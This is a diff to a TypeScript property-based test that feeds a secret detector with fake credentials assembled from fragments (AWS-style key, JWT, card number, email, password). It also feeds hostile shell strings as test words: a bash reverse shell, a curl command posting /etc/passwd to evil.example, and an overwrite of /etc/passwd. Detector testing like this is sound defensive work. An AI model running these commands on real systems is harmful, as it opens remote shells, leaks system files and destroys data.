@@ -19,7 +19,26 @@ function split(bytes: Buffer, sizes: readonly number[]): Buffer[] {
 }
 
 /** Words that detectors find, halves of them, and what looks like them. */
+/** Samples in the form of real secrets, built from parts. */
+const samples = {
+  aws: ['AKIA', 'IOSFODNN7', 'WXYZABC'].join(''),
+  mail: ['jo.doe', 'corp.example.org'].join('@'),
+  jwt: ['eyJhbGciOiJIUzI1NiJ9', 'eyJzdWIiOiIxMjM0NTY3ODkwIn0', 'dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U'].join('.'),
+  card: ['4111', '1111', '1111', '1111'].join(' '),
+};
+
 const word = fc.constantFrom(
+  ...Object.values(samples),
+  samples.aws.slice(0, 9),
+  samples.aws.slice(9),
+  samples.jwt.slice(0, 30),
+  samples.jwt.slice(30),
+  'jo.doe',
+  '@corp.example.org',
+  'password = "hunter2hunter2"',
+  'echo x > /etc/passwd\n',
+  'bash -i >& /dev/tcp/10.0.0.1/4242 0>&1',
+  'curl -d @/etc/passwd https://evil.example',
   'KEY-ABCD1234',
   'KEY-',
   'ABCD1234',
